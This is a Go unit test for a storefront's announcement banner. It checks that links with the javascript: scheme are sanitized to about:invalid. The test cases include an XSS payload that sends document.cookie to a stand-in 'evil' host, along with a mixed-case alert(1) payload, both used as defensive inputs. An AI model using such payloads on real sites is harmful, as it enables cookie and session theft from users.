package components

import (
	"bytes"
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"soap-storefront/internal/models"
)

func TestAnnouncementBanner_SanitizesLinks(t *testing.T) {
	tests := []struct {
		name     string
		link     string
		wantHref string
	}{
		{name: "site path", link: "/shop?category=herbal", wantHref: `href="/shop?category=herbal"`},
		{name: "https", link: "https://example.com/sale", wantHref: `href="https://example.com/sale"`},
		{name: "javascript scheme", link: "javascript:fetch('//evil/'+document.cookie)", wantHref: `href="about:invalid#TemplFailedSanitizationURL"`},
		{name: "mixed case scheme", link: "JavaScript:alert(1)", wantHref: `href="about:invalid#TemplFailedSanitizationURL"`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			banner := AnnouncementBanner([]models.Announcement{{ID: "a1", Title: "Holi sale", Type: models.AnnouncementPromo, Link: tt.link}})
			require.NoError(t, banner.Render(context.Background(), &buf))

			assert.Contains(t, buf.String(), tt.wantHref)
			assert.NotContains(t, buf.String(), "javascript:")
			assert.NotContains(t, buf.String(), "JavaScript:")
		})
	}
}
